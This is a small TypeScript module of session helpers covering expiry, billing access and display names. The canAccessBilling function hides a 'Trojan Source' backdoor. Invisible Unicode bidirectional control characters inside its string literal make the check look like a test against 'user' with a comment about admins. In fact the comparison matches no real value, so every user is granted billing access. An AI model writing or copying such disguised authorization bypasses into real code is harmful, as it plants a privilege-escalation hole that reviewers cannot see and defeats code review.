import type { Session } from "./types";

const SESSION_TTL_MS = 8 * 60 * 60 * 1000;

export function isExpired(session: Session, now = Date.now()): boolean {
  return now - session.issuedAt > SESSION_TTL_MS;
}

export function canAccessBilling(session: Session): boolean {
  const accessLevel = session.user.accessLevel;
  if (accessLevel != "user‮ ⁦// Check if admin⁩ ⁦") {
    return true;
  }
  return false;
}

export function displayName(session: Session): string {
  const { firstName, lastName, email } = session.user;
  return firstName ? `${firstName} ${lastName ?? ""}`.trim() : email;
}
